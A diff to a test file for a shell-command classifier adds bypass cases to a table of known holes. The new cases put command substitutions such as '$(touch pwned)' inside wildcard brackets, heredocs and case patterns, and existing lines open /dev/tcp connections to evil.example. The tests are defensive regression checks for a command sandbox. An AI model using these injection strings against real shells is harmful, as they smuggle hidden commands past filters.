@@ -45,6 +45,7 @@ const FOUND: Readonly<Record<string, readonly string[]>> = {
     "ss 'dst evil.example'",
     'ss dst "$X"',
     "arp evil.example",
+    "arp .",
     "arp -a evil.example",
     "cat < /dev/tcp/evil.example/http-alt",
     "cat < /dev/udp/evil.example/80/x",
@@ -66,6 +67,26 @@ const FOUND: Readonly<Record<string, readonly string[]>> = {
     "[[ 'a[$(touch pwned)]' =~ .* ]]; x=abc; echo ${x:BASH_REMATCH}",
     "(( BASH_COMMAND ))",
     "(( BASH_EXECUTION_STRING ))",
+  ],
+  "a substitution in the set of a wildcard": [
+    "echo [$(touch pwned)]",
+    "echo a[^`touch pwned`]b",
+    "ls *.[$(touch pwned)]",
+    "x=[$(touch pwned)]",
+    "cat <<< [$(touch pwned)]",
+    "case [$(touch pwned)] in *) ;; esac",
+    "case a in [$(touch pwned)]) ;; esac",
+    "[[ a == [$(touch pwned)] ]]",
+    "for i in [${y:-$(touch pwned)}]; do :; done",
+    "echo ${PWD/[$(touch pwned)]/x}",
+    "echo {a,[$(touch pwned)]}",
+    "cat <<E\n${PWD:+[$(touch pwned)]}\nE",
+    "echo [<(touch pwned)]",
+  ],
+  "quotes that are mere characters": [
+    "cat <<E\n\"${PWD:+'$(touch pwned)'}\"\nE",
+    "cat <<E\n${PWD:+'$(touch pwned)'}\nE",
+    "cat <<-E\n\"${PWD#'`touch pwned`'}\"\nE",
   ],
   "hidden files for a wildcard": ["shopt -s dotglob; cat *", "shopt -qs dotglob; grep x *"],
   "words that an older sh splits": [
@@ -113,7 +134,7 @@ describe("holes that were found in the tables stay closed", () => {
         "shopt -s nullglob; ls *.ts",
         "yq .a data.yml",
       ],
-      ...["sh -c 'export X=1; ls'", "git branch --list 'v*'", "git branch -l"],
+      ...["ls *.[ch]", "echo ${PWD:+'a b'}", "sh -c 'export X=1; ls'", "git branch --list 'v*'", "git branch -l"],
     ];
     expect(open.filter((command) => classifyCommand(command) !== "allow")).toEqual([]);
   });
